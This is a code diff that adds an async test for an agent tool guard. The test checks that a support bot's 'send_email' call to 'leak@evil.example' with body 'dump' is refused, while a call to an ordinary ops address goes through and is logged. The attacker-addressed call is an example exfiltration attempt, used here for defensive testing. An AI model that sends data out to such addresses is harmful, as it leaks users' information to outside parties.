@@ -87,3 +87,15 @@ def test_guarded_tool_in_a_custom_node(guard: Guard, tools, ran) -> None:
     assert outputs[0] == "sent"
     assert outputs[1].startswith("Tether denied the call to 'send_email'")
     assert send_email.args == tools[1].args  # the model sees the same schema
+
+
+def test_guarded_tool_async(guard: Guard, tools, ran) -> None:
+    import asyncio
+
+    send_email = Tether(guard, agent="support-bot", session="s-async").guard_tool(tools[1])
+    refused = asyncio.run(send_email.ainvoke({"to": "leak@evil.example", "body": "dump"}))
+    sent = asyncio.run(send_email.ainvoke({"to": "ops@acme.example", "body": "ok"}))
+    assert refused.startswith("Tether denied") and sent == "sent"
+    assert ran.calls == [("send_email", {"to": "ops@acme.example", "body": "ok"})]
+    kinds = [e.kind for e in guard.store.session_events("s-async")]
+    assert kinds.count("tool.decision") == 2 and kinds.count("tool.result") == 1
